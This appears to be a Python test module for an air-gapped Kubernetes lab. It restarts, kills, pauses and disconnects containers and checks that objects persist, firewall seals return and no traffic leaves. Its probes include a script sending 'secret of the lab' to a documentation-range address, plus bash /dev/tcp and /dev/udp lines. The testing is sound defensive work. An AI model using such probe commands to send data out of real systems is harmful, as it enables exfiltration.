"""A3 and A11: containers that stop, restart and leave the network. Objects stay, and nothing gets out meanwhile."""

from __future__ import annotations

import json
import subprocess
import time
from typing import Any

from tests.hostile.checks import Result, result, unless
from tests.hostile.places import IMAGE, Ground, call
from tests.hostile.shots import address
from tests.hostile.tripwire import Tripwire

RESTARTED = ("site", "dns", "web", "nfs", "registry", "front", "sinkhole", "workstation", "seal")
SEALED = ("node/localnode-2", "node/localnode-3", "workstation", "site", "sinkhole")
SEALED_SECONDS = 5
KEPT = "hostile-kept"
KNOCK = """
import socket, sys, time
end = time.monotonic() + float(sys.argv[2])
while time.monotonic() < end:
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        with socket.socket(socket.AF_INET, kind) as channel:
            channel.setblocking(False)
            try:
                channel.connect((sys.argv[1], 25950))
                channel.send(b"secret of the lab")
            except OSError:
                pass
    time.sleep(0.02)
"""


def restarts(ground: Ground, wire: Tripwire) -> list[Result]:
    ground.kubectl("create", "configmap", KEPT, "--from-literal=here=yes")
    uid = _uid(ground)
    try:
        return [
            *_parts(ground, wire),
            *_sealed_at_once(ground, wire),
            *_workers(ground, uid),
            *_control_plane(ground, uid),
            *_disconnected(ground),
            *_stranger(ground, wire),
        ]
    finally:
        ground.kubectl("delete", "configmap", KEPT, "--wait=false")


def _uid(ground: Ground) -> str:
    return ground.kubectl("get", "configmap", KEPT, "-o", "jsonpath={.metadata.uid}").stdout


def _parts(ground: Ground, wire: Tripwire) -> list[Result]:
    """What was in the ledger before is there afterwards; pods that knock meanwhile do not get out."""
    before = _rows(ground)
    knocking = _knock(ground, "plain", "198.51.100.250", 25)
    for part in RESTARTED:
        call("docker", "restart", "-t", "1", f"{ground.topology.name}-{part}")
    up = ground.lab("up")
    knocking.wait(timeout=60)
    time.sleep(4)
    after, left = _rows(ground), {one.dst for one in wire.caught() if one.way == "left"}
    lost = [f"{who} {what}" for who, what in before - after]
    status = ground.lab("status")
    return [
        result(
            "A11",
            "the parts restart while a pod knocks: nothing leaves",
            unless("198.51.100.250" not in left, "it left"),
        ),
        result("A11", "`lab up` mends parts that restarted", unless(up.returncode == 0, up.stderr[-300:])),
        result("A11", "all is ready afterwards", unless(status.returncode == 0, status.stdout)),
        result(
            "A7",
            "rows of before the restarts are still there",
            unless(before and not lost, f"{len(lost)} of {len(before)} are gone: {lost[:5]}"),
        ),
        result(
            "A7",
            "what is tried while parts restart is in the ledger",
            unless(any("198.51.100.250" in what for _, what in after), "it is not"),
        ),
    ]


def _sealed_at_once(ground: Ground, wire: Tripwire) -> list[Result]:
    """Each namespace anew: it tries at once, is stopped, and has its seal again within seconds, without `lab up`."""
    results = []
    for number, place in enumerate(SEALED):
        container = ground.container(place)
        call("docker", "restart", "-t", "1", container)
        target = f"198.51.100.{243 + number}"
        _knock(ground, place, target, 2).wait(timeout=30)
        left = {one.dst for one in wire.caught() if one.way == "left"}
        results.append(
            result(
                "A11", f"{place} restarts and knocks: nothing leaves", unless(target not in left, "it left")
            )
        )
        end = time.monotonic() + SEALED_SECONDS
        while not (there := _has_seal(ground, place)) and time.monotonic() < end:
            time.sleep(0.3)
        results.append(
            result(
                "A11", f"{place} is sealed again by itself", unless(there, f"not within {SEALED_SECONDS} s")
            )
        )
    up = ground.lab("up")
    status = ground.lab("status")
    results.append(
        result(
            "A11",
            "`lab up` after all of them restarted",
            unless(up.returncode == 0, up.stderr[-300:]),
            unless(status.returncode == 0, status.stdout),
        )
    )
    return results


def _has_seal(ground: Ground, place: str) -> bool:
    return call(*ground.within(place), "nft", "list", "chain", "inet", "airgap_lab", "output").returncode == 0


def _workers(ground: Ground, uid: str) -> list[Result]:
    results = []
    for title, argv in (
        ("stopped", ("docker", "stop", "-t", "1")),
        ("killed", ("docker", "kill")),
    ):
        call(*argv, ground.nodes()["localnode-3"])
        status = ground.lab("status")
        up = ground.lab("up")
        results += [
            result(
                "A3",
                f"a worker is {title}: status says so",
                unless("worker" in status.stdout or "localnode-3" in status.stdout, status.stdout),
            ),
            result(
                "A3", f"a worker is {title}: `lab up` starts it", unless(up.returncode == 0, up.stderr[-300:])
            ),
            result("A3", f"a worker is {title}: objects stay", unless(_uid(ground) == uid, "they are gone")),
        ]
    return results


def _control_plane(ground: Ground, uid: str) -> list[Result]:
    node = ground.topology.cluster.control_plane.container
    results = []
    for title, argv in (
        ("restarted", ("docker", "restart", "-t", "1")),
        ("stopped", ("docker", "stop", "-t", "1")),
    ):
        call(*argv, node)
        up = ground.lab("up")
        results += [
            result(
                "A3",
                f"the control plane is {title}: `lab up` waits for it",
                unless(up.returncode == 0, up.stderr[-300:]),
            ),
            result(
                "A3",
                f"the control plane is {title}: objects stay",
                unless(_uid(ground) == uid, "they are gone"),
            ),
        ]
    call("docker", "pause", node)
    thaw = subprocess.Popen(["bash", "-c", f"sleep 12; docker unpause {node}"], stdout=subprocess.DEVNULL)
    up = ground.lab("up")
    thaw.wait(timeout=60)
    ground.lab("up")
    problem = f"rc {up.returncode}: {up.stderr[-200:]}"
    results += [
        result(
            "A3",
            "an API that does not answer for a while: 0 or 3, in words",
            unless(up.returncode in {0, 3}, problem),
        ),
        result(
            "A3",
            "an API that does not answer for a while: objects stay",
            unless(_uid(ground) == uid, "they are gone"),
        ),
    ]
    return results


def _disconnected(ground: Ground) -> list[Result]:
    results = []
    network = ground.topology.network.name
    for place in ("workstation", "node/localnode-3"):
        container = ground.container(place)
        before = address(container, network)
        call("docker", "network", "disconnect", "-f", network, container)
        status = ground.lab("status")
        up = ground.lab("up")
        after = ground.lab("status")
        results += [
            result(
                "A11",
                f"{place} is off the network: status says so",
                unless(status.returncode == 1, status.stdout),
            ),
            result(
                "A11",
                f"{place} is off the network: `lab up` mends it",
                unless(up.returncode == 0 and after.returncode == 0, up.stderr[-300:] + after.stdout),
            ),
            result(
                "A8",
                f"{place} has its address again",
                unless(address(container, network) == before, f"{before} is {address(container, network)}"),
            ),
        ]
    workers = [ground.nodes()["localnode-2"], ground.nodes()["localnode-3"]]
    addresses = [address(one, network) for one in workers]
    for one in workers:
        call("docker", "network", "disconnect", "-f", network, one)
    for one, other in zip(workers, reversed(addresses), strict=True):
        call("docker", "network", "connect", "--ip", other, network, one)
    status, up = ground.lab("status"), ground.lab("up")
    done = ground.kubectl(
        "get", "nodes", "-o", "jsonpath={range .items[*]}{.status.conditions[-1].status}{end}"
    )
    back = [address(one, network) for one in workers] == addresses
    results.append(
        result("A8", "workers that swapped addresses: said", unless(status.returncode == 1, status.stdout))
    )
    results.append(
        result(
            "A8",
            "workers that swapped addresses: mended",
            unless(
                up.returncode == 0 and back and done.stdout == "TrueTrueTrue",
                f"{up.stderr[-300:]} {done.stdout}",
            ),
        )
    )
    return results


def _stranger(ground: Ground, wire: Tripwire) -> list[Result]:
    """A container that is not the lab's, on the lab's network."""
    name, network = f"stranger-{ground.topology.name}", ground.topology.network.name
    call("docker", "run", "-d", "--rm", "--name", name, "--network", network, IMAGE, "sleep", "600")
    script = (
        "echo x >/dev/udp/198.51.100.249/25960; timeout 2 bash -c 'echo x >/dev/tcp/198.51.100.249/25960'"
    )
    try:
        call("docker", "exec", name, "bash", "-c", script)
        left = {one.dst for one in wire.caught() if one.way == "left"}
        status = ground.lab("status")
        up = ground.lab("up")
        return [
            result(
                "A11",
                "a stranger on the lab's network: nothing of it leaves",
                unless("198.51.100.249" not in left, "it left"),
            ),
            result(
                "A11",
                "a stranger on the lab's network: up still works",
                unless(up.returncode == 0, up.stderr[-300:]),
            ),
            result(
                "A11",
                "a stranger on the lab's network: nodes stay ready",
                unless("Traceback" not in status.stderr, status.stderr[-300:]),
            ),
        ]
    finally:
        call("docker", "rm", "-f", name)


def down(ground: Ground, wire: Tripwire) -> list[Result]:
    """`lab down` with a stranger attached, then without: the wall goes last."""
    name, network = f"stranger-{ground.topology.name}", ground.topology.network.name
    call("docker", "run", "-d", "--rm", "--name", name, "--network", network, IMAGE, "sleep", "600")
    try:
        first = ground.lab("down")
        tables = ground.watcher("nft", "list", "tables").stdout
        script = "echo x >/dev/udp/198.51.100.248/25970"
        call("docker", "exec", name, "bash", "-c", script)
        left = {one.dst for one in wire.caught() if one.way == "left"}
    finally:
        call("docker", "rm", "-f", name)
    second = ground.lab("down")
    after = ground.watcher("nft", "list", "tables").stdout
    table = f"airgap_{ground.topology.name.replace('-', '_')}"
    things = call("docker", "ps", "-aq", "--filter", f"label=airgap-lab.name={ground.topology.name}").stdout
    return [
        result(
            "A11",
            "down with a stranger attached: exit 3",
            unless(first.returncode == 3, f"{first.returncode}"),
        ),
        result(
            "A11",
            "down with a stranger attached: it is named",
            unless(name in first.stderr, first.stderr[-300:]),
        ),
        result("A11", "down with a stranger attached: the wall stands", unless(table in tables, tables)),
        result(
            "A11",
            "down with a stranger attached: nothing of it leaves",
            unless("198.51.100.248" not in left, "it left"),
        ),
        result(
            "A11",
            "down without it leaves nothing",
            unless(
                second.returncode == 0 and not things and table not in after, second.stderr[-300:] + after
            ),
        ),
    ]


def _rows(ground: Ground) -> set[tuple[str, str]]:
    rows: list[dict[str, Any]] = json.loads(ground.lab("egress", "--json").stdout or '{"entries": []}')[
        "entries"
    ]
    return {(row["who"], row["what"]) for row in rows if not row["infrastructure"]}


def _knock(ground: Ground, place: str, target: str, seconds: float) -> subprocess.Popen[bytes]:
    argv = [*ground.within(place), "python3", "-c", KNOCK, target, str(seconds)]
    return subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
